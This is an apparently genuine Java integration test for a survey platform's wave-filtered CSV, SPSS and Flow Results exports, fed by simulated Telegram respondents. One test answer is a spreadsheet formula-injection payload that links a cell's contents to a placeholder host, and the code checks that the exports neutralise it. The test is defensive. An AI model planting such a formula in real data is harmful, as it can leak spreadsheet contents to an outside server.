package nl.stem.api.export;

import static io.restassured.RestAssured.given;
import static nl.stem.api.ApiTokensForTests.as;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.File;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.TimeUnit;

import javax.sql.DataSource;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import jakarta.inject.Inject;
import nl.stem.api.ApiTokensForTests;
import nl.stem.api.PublishedForTests;
import nl.stem.channel.telegram.FakeBotApi;
import nl.stem.channel.telegram.TelegramUser;
import nl.stem.panel.PanelFixture;

/**
 * Exports of a wave, answered over Telegram by members of two waves of one survey (see {@link Waves}):
 * the wave filter on every export, the wave column, button taps' raw text, neutralised formulas, and
 * the SPSS syntax run in GNU PSPP on the wave's wide CSV.
 */
@QuarkusTest
class WaveExportTest {
    static final String MULTILINE_RTL = "الحياة هنا \"صعبة\" أحياناً، لكنني أتعلم\nسطر ثانٍ: 'نعم'\n\nشكراً";
    static final String HYPERLINK = "=HYPERLINK(\"http://x\"&A1,\"klik\")";
    static final List<String> EXPORTS = List.of("long.csv", "wide.csv", "codebook.json", "codebook.csv", "codebook.html",
            "wide.sps", "wide.do", "flow-results/datapackage.json", "flow-results/responses.json", "flow-results.zip");

    @Inject
    DataSource db;
    @Inject
    ObjectMapper json;

    private static Waves waves;

    @AfterEach
    void retire() {
        PublishedForTests.retireAll(); // the exports keep working for a retired survey
    }

    /**
     * Wave A: an Arabic member taps and types a multi-line right-to-left answer with quotes and a
     * negative number, a Dutch member types a formula, a third stops after consent. Wave B: one Dutch
     * member who skips the open question. Built once per run.
     */
    static final class Waves {
        final String survey;
        final long waveA;
        final long waveB;
        final long otherSurveysWave;
        final String arabic;
        final String dutch;
        final String stopper;
        final String later;
        final PanelFixture panel;

        Waves(DataSource db) throws Exception {
            panel = new PanelFixture(db);
            FakeBotApi.get(); // up before the invitations are queued
            survey = publish("golf_" + panel.prefix, "", "");
            TelegramUser ar = TelegramUser.create("ar");
            TelegramUser nl = TelegramUser.create("nl");
            TelegramUser stops = TelegramUser.create("nl");
            TelegramUser next = TelegramUser.create("nl");
            arabic = pseudonym(panel.member("ar", "telegram", ar.chat(), "ar", null, null));
            dutch = pseudonym(panel.member("nl", "telegram", nl.chat(), "nl", null, null));
            stopper = pseudonym(panel.member("stops", "telegram", stops.chat(), "nl", null, null));
            later = pseudonym(panel.member("later", "telegram", next.chat(), "nl", null, null));
            waveA = launch("A", List.of("ar", "nl", "stops"));
            waveB = launch("B", List.of("later"));
            for (TelegramUser u : List.of(ar, nl, stops, next)) {
                FakeBotApi.get().awaitMessagesTo(u.chat(), 1, Duration.ofSeconds(15));
            }

            ar.tap("start:" + survey).statusCode(200);
            ar.tap("a:consent:yes").statusCode(200);
            ar.tap("a:werk:ja").statusCode(200);
            ar.text("-250").statusCode(200);
            ar.tap("a:veilig:na").statusCode(200);
            ar.text(MULTILINE_RTL).statusCode(200);

            nl.tap("start:" + survey).statusCode(200);
            nl.tap("a:consent:yes").statusCode(200);
            nl.tap("a:werk:nee").statusCode(200);
            nl.text("12").statusCode(200);
            nl.tap("a:veilig:2").statusCode(200);
            nl.text(HYPERLINK).statusCode(200);

            stops.tap("start:" + survey).statusCode(200);
            stops.tap("a:consent:yes").statusCode(200);
            stops.text("stop").statusCode(200);

            next.tap("start:" + survey).statusCode(200);
            next.tap("a:consent:yes").statusCode(200);
            next.tap("a:werk:ja").statusCode(200);
            next.text("3").statusCode(200);
            next.tap("a:veilig:5").statusCode(200);
            next.tap("a:toelichting:skip").statusCode(200);

            otherSurveysWave = (long) panel.value("insert into waves (name, survey_version_id, invite_at, created_by, created_at) "
                    + "select 'andere', id, now(), 'test', now() from survey_versions where survey_id = ? order by version desc limit 1 "
                    + "returning id", ExportFixture.SURVEY);
            for (long w : List.of(waveA, waveB, otherSurveysWave)) {
                as("coordinator").post("/api/waves/" + w + "/close").then().statusCode(200);
            }
            publish(survey, "  - id: nieuw\n    type: text\n    text: \"Nog een vraag\"\n    optional: true\n    ioi: [safety]\n",
                    "\nmsgctxt \"nieuw.text\"\nmsgid \"Nog een vraag\"\nmsgstr \"سؤال آخر\"\n"); // version 2, after the waves
        }

        private long launch(String name, List<String> members) {
            return as("coordinator").contentType(ContentType.JSON)
                    .body(Map.of("name", "Golf " + name + " " + panel.prefix, "survey", survey,
                            "members", members.stream().map(panel::id).toList(),
                            "quietHours", Map.of("start", "00:00", "end", "00:00")))
                    .post("/api/waves").then().statusCode(201).extract().jsonPath().getLong("wave");
        }

        private String pseudonym(java.util.UUID respondent) throws Exception {
            return (String) panel.value("select pseudonym from respondents where id = ?", respondent);
        }

        String q(String waves) {
            return "?survey=" + survey + (waves == null ? "" : "&wave=" + waves);
        }
    }

    /**
     * Consent, a single choice, a number that may be negative, a scale with "not applicable", an
     * optional open question; {@code more} adds questions (YAML) with their Arabic texts ({@code moreAr}).
     */
    static String publish(String id, String more, String moreAr) {
        String yaml = """
                id: %s
                title: Exportgolf
                source_language: nl
                languages: [nl, ar]
                questions:
                  - id: consent
                    type: consent
                    text: "Doe je mee?"
                  - id: werk
                    type: single_choice
                    text: "Heb je werk?"
                    choices:
                      - {id: ja, label: Ja}
                      - {id: nee, label: Nee}
                    ioi: [work.employment_status]
                  - id: saldo
                    type: number
                    text: "Hoeveel euro hield je deze maand over? Een tekort is negatief."
                    min: -10000
                    max: 10000
                    ioi: [stability]
                  - id: veilig
                    type: scale
                    text: "Hoe veilig voel je je?"
                    min: 1
                    max: 5
                    min_label: Onveilig
                    max_label: Veilig
                    not_applicable: true
                    ioi: [safety.feel_safe_area]
                  - id: toelichting
                    type: open
                    text: "Wil je nog iets vertellen?"
                    optional: true
                    ioi: [safety]
                """.formatted(id) + more;
        String ar = """
                msgid ""
                msgstr ""
                "Language: ar\\n"

                msgctxt "survey.title"
                msgid "Exportgolf"
                msgstr "موجة التصدير"

                msgctxt "consent.text"
                msgid "Doe je mee?"
                msgstr "هل تشارك؟"

                msgctxt "werk.text"
                msgid "Heb je werk?"
                msgstr "هل لديك عمل؟"

                msgctxt "werk.choice.ja"
                msgid "Ja"
                msgstr "نعم"

                msgctxt "werk.choice.nee"
                msgid "Nee"
                msgstr "لا"

                msgctxt "saldo.text"
                msgid "Hoeveel euro hield je deze maand over? Een tekort is negatief."
                msgstr "كم يورو بقي لديك هذا الشهر؟ العجز سالب."

                msgctxt "veilig.text"
                msgid "Hoe veilig voel je je?"
                msgstr "ما مدى شعورك بالأمان؟"

                msgctxt "veilig.min_label"
                msgid "Onveilig"
                msgstr "غير آمن"

                msgctxt "veilig.max_label"
                msgid "Veilig"
                msgstr "آمن"

                msgctxt "toelichting.text"
                msgid "Wil je nog iets vertellen?"
                msgstr "هل تريد أن تقول شيئاً آخر؟"
                """ + moreAr;
        PublishedForTests.remember(id);
        ApiTokensForTests.researcher().contentType(ContentType.JSON)
                .body(Map.of("survey", Map.of("file", id + ".yaml", "content", yaml), "translations", Map.of("ar", ar)))
                .post("/api/surveys").then().log().ifValidationFails().statusCode(201);
        return id;
    }

    Waves fx() throws Exception {
        synchronized (WaveExportTest.class) {
            if (waves == null) {
                waves = new Waves(db);
            }
            return waves;
        }
    }

    static String get(String path) {
        return ApiTokensForTests.researcher().get(path).then().statusCode(200).extract().asString();
    }

    static List<Map<String, String>> rows(String csv) throws IOException {
        return ExportResourceTest.parse(csv);
    }

    static Set<String> respondents(List<Map<String, String>> rows) {
        Set<String> out = new HashSet<>();
        rows.forEach(r -> out.add(r.get("respondent")));
        return out;
    }

    @Test
    void waveFilter_restrictsTheCsvExportsToTheWave_andFillsTheWaveColumn() throws Exception {
        Waves w = fx();
        List<Map<String, String>> longA = rows(get("/api/exports/long.csv" + w.q(String.valueOf(w.waveA))));
        assertEquals(Set.of(w.arabic, w.dutch, w.stopper), respondents(longA));
        assertTrue(longA.stream().allMatch(r -> r.get("wave").equals(String.valueOf(w.waveA))), "the wave column is the answer's wave");
        assertEquals(5 + 5 + 1, longA.size(), "every answer of wave A, consent of the one who stopped included");

        List<Map<String, String>> wideA = rows(get("/api/exports/wide.csv" + w.q(String.valueOf(w.waveA))));
        assertEquals(3, wideA.size());
        assertTrue(wideA.stream().allMatch(r -> r.get("wave").equals(String.valueOf(w.waveA))));
        assertEquals(Set.of(w.arabic, w.dutch, w.stopper), respondents(wideA));

        List<Map<String, String>> wideB = rows(get("/api/exports/wide.csv" + w.q(String.valueOf(w.waveB))));
        assertEquals(1, wideB.size());
        assertEquals(w.later, wideB.get(0).get("respondent"));
        assertEquals(String.valueOf(w.waveB), wideB.get(0).get("wave"));

        // Several waves, as a panel compares them; the order and repeats in the parameter do not matter.
        List<Map<String, String>> both = rows(get("/api/exports/wide.csv" + w.q(w.waveB + ", " + w.waveA + "," + w.waveB)));
        assertEquals(Set.of(w.arabic, w.dutch, w.stopper, w.later), respondents(both));
        assertEquals(rows(get("/api/exports/wide.csv" + w.q(null))).size(), both.size(), "no filter: both waves (no other sessions)");
        List<Map<String, String>> longBoth = rows(get("/api/exports/long.csv" + w.q(w.waveA + "," + w.waveB)));
        assertEquals(longA.size() + 5, longBoth.size());
        // Combined with the other filters.
        assertTrue(rows(get("/api/exports/long.csv" + w.q(String.valueOf(w.waveB)) + "&language=ar")).isEmpty());
        assertEquals(Set.of(w.arabic), respondents(rows(get("/api/exports/long.csv" + w.q(w.waveA + "," + w.waveB) + "&language=ar"))));
        assertEquals(longA.size(), rows(get("/api/exports/long.csv" + w.q(String.valueOf(w.waveA)) + "&version=1")).size());
    }

    @Test
    void waveFilter_worksOnEveryExport_andIsAudited() throws Exception {
        Waves w = fx();
        String a = w.q(String.valueOf(w.waveA));
        for (String export : EXPORTS) {
            ApiTokensForTests.researcher().get("/api/exports/" + export + a).then().statusCode(200);
        }
        JsonNode responses = json.readTree(get("/api/exports/flow-results/responses.json" + a));
        Set<String> contacts = new HashSet<>();
        for (JsonNode r : responses) {
            contacts.add(r.get(2).asText());
            assertEquals(w.waveA, r.get(6).get("wave").asLong());
        }
        assertEquals(Set.of(w.arabic, w.dutch, w.stopper), contacts);
        JsonNode descriptorA = json.readTree(get("/api/exports/flow-results/datapackage.json" + a));
        JsonNode descriptorAll = json.readTree(get("/api/exports/flow-results/datapackage.json" + w.q(null)));
        assertFalse(descriptorA.get("id").equals(descriptorAll.get("id")), "a wave's package is another package");
        assertTrue(descriptorA.get("name").asText().endsWith("-w" + w.waveA), descriptorA.get("name").asText());
        assertEquals(List.of(1), json.convertValue(json.readTree(get("/api/exports/codebook.json" + a)).get("versions"), List.class),
                "a wave's exports cover the version it ran");
        assertEquals(List.of(1, 2), json.convertValue(json.readTree(get("/api/exports/codebook.json" + w.q(null))).get("versions"), List.class));
        assertFalse(get("/api/exports/wide.csv" + a).contains("nieuw"), "no column for a question the wave never asked");
        assertTrue(get("/api/exports/wide.csv" + w.q(null)).startsWith("respondent,wave,"));
        ApiTokensForTests.researcher().get("/api/media" + a).then().statusCode(200);

        given().auth().oauth2(ApiTokensForTests.BOOTSTRAP).get("/api/audit?limit=200").then().statusCode(200)
                .body("entries.find { it.action == 'export.flow_results' && it.details.wave != null }.details.wave",
                        equalTo(List.of((int) w.waveA)))
                .body("entries.find { it.action == 'export.spss' && it.details.wave != null }.subject", equalTo(w.survey));
    }

    @Test
    void waveFilter_whenTheWaveIsUnknownOfAnotherSurveyOrMalformed_saysSo() throws Exception {
        Waves w = fx();
        for (String export : EXPORTS) {
            String base = "/api/exports/" + export + "?survey=" + w.survey + "&wave=";
            ApiTokensForTests.researcher().get(base + "987654321").then().statusCode(404)
                    .contentType(containsString("json")).body("code", equalTo("wave_not_found"));
            ApiTokensForTests.researcher().get(base + w.otherSurveysWave).then().statusCode(400)
                    .body("code", equalTo("wave_not_in_survey")).body("message", containsString(ExportFixture.SURVEY));
            ApiTokensForTests.researcher().get(base + w.waveA + ",987654321").then().statusCode(404);
        }
        String base = "/api/exports/long.csv?survey=" + w.survey + "&wave=";
        for (String bad : List.of("abc", "0", "-1", "1.5", "3,,4", "3,", "1e3", "99999999999999999999")) {
            ApiTokensForTests.researcher().get(base + bad).then().statusCode(400).body("code", equalTo("bad_wave"));
        }
        // A NUL never reaches the filter: the URL check refuses it for every route.
        for (String bad : List.of("\u0000", "3\u0000")) {
            ApiTokensForTests.researcher().get(base + bad).then().statusCode(400).body("code", equalTo("malformed_url"));
        }
        ApiTokensForTests.researcher().get(base + w.waveA + "&version=2").then().statusCode(400)
                .body("code", equalTo("wave_version_mismatch")).body("message", containsString("version 1"));
        ApiTokensForTests.researcher().get(base + w.waveA + "&version=3").then().statusCode(400).body("code", equalTo("unknown_version"));
        String many = String.join(",", java.util.stream.LongStream.rangeClosed(1, 101).mapToObj(String::valueOf).toList());
        ApiTokensForTests.researcher().get(base + many).then().statusCode(400).body("code", equalTo("bad_wave"));
    }

    @Test
    void telegramButtonTaps_storeTheLabelTheRespondentSaw_inTheirLanguage() throws Exception {
        Waves w = fx();
        List<Map<String, String>> rows = rows(get("/api/exports/long.csv" + w.q(w.waveA + "," + w.waveB)));
        assertEquals("نعم، أوافق", ExportResourceTest.answer(rows, w.arabic, "consent").get("raw_text"));
        assertEquals("نعم", ExportResourceTest.answer(rows, w.arabic, "werk").get("raw_text"));
        assertEquals("ja", ExportResourceTest.answer(rows, w.arabic, "werk").get("value"));
        assertEquals("لا ينطبق", ExportResourceTest.answer(rows, w.arabic, "veilig").get("raw_text"));
        assertEquals("Ja, ik ga akkoord", ExportResourceTest.answer(rows, w.dutch, "consent").get("raw_text"));
        assertEquals("Nee", ExportResourceTest.answer(rows, w.dutch, "werk").get("raw_text"));
        assertEquals("2", ExportResourceTest.answer(rows, w.dutch, "veilig").get("raw_text"));
        assertEquals("Overslaan", ExportResourceTest.answer(rows, w.later, "toelichting").get("raw_text"));
        assertEquals("-88", ExportResourceTest.answer(rows, w.later, "toelichting").get("value"));
        assertTrue(rows.stream().noneMatch(r -> r.get("raw_text").startsWith("a:")), "no payload as raw text");
        assertEquals("-250", ExportResourceTest.answer(rows, w.arabic, "saldo").get("raw_text"), "typed text stays as typed");
    }

    @Test
    void everyCsv_neutralisesFormulas_andKeepsNumbersNumbers() throws Exception {
        Waves w = fx();
        String a = w.q(String.valueOf(w.waveA));
        String longCsv = get("/api/exports/long.csv" + a);
        List<Map<String, String>> longRows = rows(longCsv);
        Map<String, String> formula = ExportResourceTest.answer(longRows, w.dutch, "toelichting");
        assertEquals("'" + HYPERLINK, formula.get("value"));
        assertEquals("'" + HYPERLINK, formula.get("raw_text"));
        assertEquals("-250", ExportResourceTest.answer(longRows, w.arabic, "saldo").get("value"), "a negative number stays a number");
        assertEquals(MULTILINE_RTL, ExportResourceTest.answer(longRows, w.arabic, "toelichting").get("value"),
                "the long CSV keeps line breaks, quoted");

        List<Map<String, String>> wide = rows(get("/api/exports/wide.csv" + a));
        Map<String, String> dutch = ExportResourceTest.row(wide, w.dutch);
        assertEquals("'" + HYPERLINK, dutch.get("toelichting"));
        Map<String, String> arabic = ExportResourceTest.row(wide, w.arabic);
        assertEquals("-250", arabic.get("saldo"));
        assertEquals("-99", arabic.get("veilig"));
        assertEquals(MULTILINE_RTL.replace("\n", "\u2028"), arabic.get("toelichting"), "one line per row in the wide CSV");
        Map<String, String> stopper = ExportResourceTest.row(wide, w.stopper);
        assertEquals("-77", stopper.get("saldo"));
        assertEquals("-77", stopper.get("werk"));

        // No cell of any CSV starts a formula, apart from plain negative numbers.
        for (String csv : List.of(longCsv, get("/api/exports/wide.csv" + a), get("/api/exports/codebook.csv" + a))) {
            try (CSVParser p = CSVFormat.RFC4180.parse(new StringReader(csv))) {
                for (CSVRecord r : p) {
                    for (String cell : r) {
                        assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0 && !cell.matches("-[0-9]+(\\.[0-9]+)?"),
                                "a cell a spreadsheet would run: " + cell);
                    }
                }
            }
        }

        // The wave's link list (CSV too): a member id starting with '-' is written as text.
        String pending = w.panel.id("pending");
        java.util.UUID member = w.panel.member("pending", "telegram", null, "nl", null, null);
        w.panel.update("update respondents set member_id = ? where id = ?", "-" + pending, member);
        long linkWave = as("coordinator").contentType(ContentType.JSON)
                .body(Map.of("name", "Links " + w.panel.prefix, "survey", ExportFixture.SURVEY, "members", List.of("-" + pending),
                        "quietHours", Map.of("start", "00:00", "end", "00:00")))
                .post("/api/waves").then().statusCode(201).extract().jsonPath().getLong("wave");
        String links = as("coordinator").get("/api/waves/" + linkWave + "/links.csv").then().statusCode(200).extract().asString();
        assertTrue(links.contains("\r\n'-" + pending + ",nl,https://t.me/StemTestBot?start="), links);
        as("coordinator").post("/api/waves/" + linkWave + "/close").then().statusCode(200);
    }

    /**
     * GNU PSPP (the free SPSS) runs the wave's wide.sps on its wide.csv without an error or warning,
     * and reads exactly the CSV's cases and values: the multi-line right-to-left answer with quotes
     * stays one case. The test appends SAVE TRANSLATE to write what PSPP read back as CSV.
     */
    @Test
    void spssSyntax_runsInGnuPspp_andReadsEveryCaseAndValueOfTheWavesWideCsv() throws Exception {
        Assumptions.assumeTrue(Files.isExecutable(Path.of("/usr/bin/pspp")), "GNU PSPP is not installed (bin/ensure-pspp installs it)");
        Waves w = fx();
        String a = w.q(String.valueOf(w.waveA));
        String sps = get("/api/exports/wide.sps" + a);
        String csv = get("/api/exports/wide.csv" + a);
        assertTrue(csv.contains("\u2028"), "the multi-line answer is in the data");
        Path dir = Files.createTempDirectory("stem-pspp");
        Files.writeString(dir.resolve(w.survey + "-wide.csv"), csv, StandardCharsets.UTF_8);
        Files.writeString(dir.resolve("wide.sps"), sps
                + "SAVE TRANSLATE /OUTFILE='read-back.csv' /TYPE=CSV /FIELDNAMES /CELLS=VALUES /REPLACE.\n", StandardCharsets.UTF_8);
        ProcessBuilder pb = new ProcessBuilder("/usr/bin/pspp", "-o", "listing.txt", "wide.sps").directory(dir.toFile())
                .redirectErrorStream(true).redirectOutput(dir.resolve("console.txt").toFile());
        pb.environment().put("LC_ALL", "C.UTF-8"); // SAVE TRANSLATE writes in the locale's encoding
        Process p = pb.start();
        assertTrue(p.waitFor(120, TimeUnit.SECONDS), "PSPP finished");
        String console = Files.readString(dir.resolve("console.txt"));
        String listing = Files.readString(dir.resolve("listing.txt"));
        assertEquals(0, p.exitValue(), console + listing);
        for (String out : List.of(console, listing)) {
            assertFalse(out.toLowerCase(java.util.Locale.ROOT).contains("error"), out);
            assertFalse(out.toLowerCase(java.util.Locale.ROOT).contains("warning"), out);
        }

        List<List<String>> expected = records(csv);
        List<List<String>> read = records(Files.readString(dir.resolve("read-back.csv"), StandardCharsets.UTF_8));
        assertEquals(4, expected.size(), "header and three cases");
        assertEquals(expected.size(), read.size(), "PSPP read as many cases as the CSV has rows");
        List<String> header = expected.get(0);
        assertEquals(header.stream().map(h -> h.replace('/', '_')).toList(), read.get(0));
        for (int r = 1; r < expected.size(); r++) {
            for (int c = 0; c < header.size(); c++) {
                assertEquals(expected.get(r).get(c), read.get(r).get(c), header.get(c) + " of case " + r);
            }
        }
        List<String> arabic = read.stream().filter(row -> row.get(0).equals(w.arabic)).findFirst().orElseThrow();
        assertEquals(MULTILINE_RTL.replace("\n", "\u2028"), arabic.get(header.indexOf("toelichting")));
        assertEquals("-250", arabic.get(header.indexOf("saldo")));
        assertEquals(String.valueOf(w.waveA), arabic.get(header.indexOf("wave")));
        for (File f : dir.toFile().listFiles()) {
            Files.delete(f.toPath());
        }
        Files.delete(dir);
    }

    static List<List<String>> records(String csv) throws IOException {
        List<List<String>> out = new ArrayList<>();
        try (CSVParser p = CSVFormat.RFC4180.parse(new StringReader(csv))) {
            for (CSVRecord r : p) {
                out.add(r.toList());
            }
        }
        return out;
    }
}
